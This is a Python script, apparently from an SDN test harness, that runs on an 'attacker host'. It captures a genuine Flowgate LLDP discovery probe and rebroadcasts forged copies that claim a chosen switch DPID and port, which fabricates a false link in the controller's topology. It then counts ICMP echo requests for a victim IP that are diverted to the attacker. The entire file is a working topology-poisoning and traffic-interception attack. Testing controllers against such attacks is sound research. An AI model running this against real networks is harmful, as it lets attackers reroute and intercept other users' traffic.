"""Run inside an attacker host's namespace: wait for a genuine Flowgate
LLDP probe on IFACE, then for SECONDS send a forged copy every 0.2 s that
claims to come from switch DPID port PORT (the controller id and tag copied
as they are), while counting ICMP echo requests for VICTIM_IP that reach
this interface. Prints `probe-copied forged=N captured=M`.

    python3 lldp_forger.py IFACE DPID PORT VICTIM_IP SECONDS

A raw AF_PACKET socket, standard library only.
"""

import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
LLDP = 0x88CC


def tlvs(payload):
    offset = 0
    while offset + 2 <= len(payload):
        (header,) = struct.unpack("!H", payload[offset : offset + 2])
        kind, length = header >> 9, header & 0x1FF
        yield kind, payload[offset + 2 : offset + 2 + length]
        offset += 2 + length
        if kind == 0:
            return


def tlv(kind, value):
    return struct.pack("!H", (kind << 9) | len(value)) + value


def forge(frame, dpid, port):
    """The genuine probe with its chassis and port ids replaced."""
    out = frame[:14]
    for kind, value in tlvs(frame[14:]):
        if kind == 1:
            value = b"\x07" + b"dpid:%016x" % dpid
        elif kind == 2:
            value = b"\x02" + struct.pack("!I", port)
        out += tlv(kind, value)
    return out.ljust(60, b"\0")


def main():
    iface, dpid, port, victim, seconds = sys.argv[1:6]
    dpid, port, seconds = int(dpid, 0), int(port), float(seconds)
    victim = socket.inet_aton(victim)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((iface, 0))
    sock.settimeout(0.05)
    genuine, forged, captured = None, 0, 0
    deadline = time.monotonic() + seconds + 15
    stop_sending = None
    next_send = 0.0
    while time.monotonic() < deadline:
        now = time.monotonic()
        if genuine is not None and now >= next_send and now < stop_sending:
            sock.send(forge(genuine, dpid, port))
            forged += 1
            next_send = now + 0.2
        if stop_sending is not None and now >= stop_sending:
            break
        try:
            frame, addr = sock.recvfrom(65535)
        except socket.timeout:
            continue
        if addr[2] == socket.PACKET_OUTGOING:
            continue
        (eth_type,) = struct.unpack("!H", frame[12:14])
        if eth_type == LLDP and genuine is None:
            genuine = frame
            stop_sending = time.monotonic() + seconds
            print("probe-copied", flush=True)
        elif eth_type == 0x0800 and len(frame) >= 34 and frame[23] == 1 and frame[30:34] == victim:
            if frame[34] == 8:  # echo request
                captured += 1
    print("forged=%d captured=%d" % (forged, captured), flush=True)


if __name__ == "__main__":
    main()
